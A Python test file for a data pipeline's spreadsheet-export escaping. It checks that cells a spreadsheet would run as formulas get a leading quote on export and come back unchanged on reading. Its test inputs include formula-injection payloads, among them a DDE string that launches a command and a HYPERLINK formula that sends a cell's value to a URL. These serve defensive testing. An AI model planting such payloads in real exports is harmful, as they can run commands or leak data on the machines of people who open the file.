"""Cells that a spreadsheet would run as a formula do nothing in a download, and come back whole."""

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lead_pipeline.reading.formulas import disarmed, rearmed


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", '=HYPERLINK("https://example.com?x="&A1)', "+A1", "-A1+B2", "@SUM(A1)", "\t=1",
        "\r=1", "\n=1", "＝1+1", "＋A1", "－A1", "＠SUM(A1)", "=", "@ann", "-cmd|' /C calc'!A0",
        "+1 202-555-0123 x12", "'=1+1", "''@x",
    ],
)  # fmt: skip
def test_what_begins_a_formula_becomes_text(cell: str) -> None:
    assert disarmed([cell]) == [f"'{cell}"]


@pytest.mark.parametrize(
    "cell",
    ["", "Ann Lee", "+1 (202) 555-0123", "-", "--", "-12.50", "+49 30/555 0123", "ann@example.com",
     "a=b", " =1", "'s-Hertogenbosch", "'", "'+1 202 555 0123"],
)  # fmt: skip
def test_what_does_nothing_stays(cell: str) -> None:
    assert disarmed([cell]) == [cell]


def test_what_is_no_text_stays() -> None:
    assert disarmed([None, 12, -1.5]) == [None, 12, -1.5]


cells = st.one_of(
    st.text(max_size=20),
    st.text("'=+-@\t\r\n＝ 1aé🐘(", max_size=8),
).filter(lambda text: not any("\ud800" <= sign <= "\udfff" for sign in text))


@given(st.lists(st.none() | cells, min_size=1))
def test_every_cell_comes_back_as_it_was(values: list[str | None]) -> None:
    assert rearmed(pa.array(disarmed(values), pa.string())).to_pylist() == values


def test_a_cell_that_was_never_disarmed_stays() -> None:
    values = ["'s-Hertogenbosch", "'+1 202 555 0123", "'quoted'", None, ""]
    assert rearmed(pa.array(values, pa.string())).to_pylist() == values
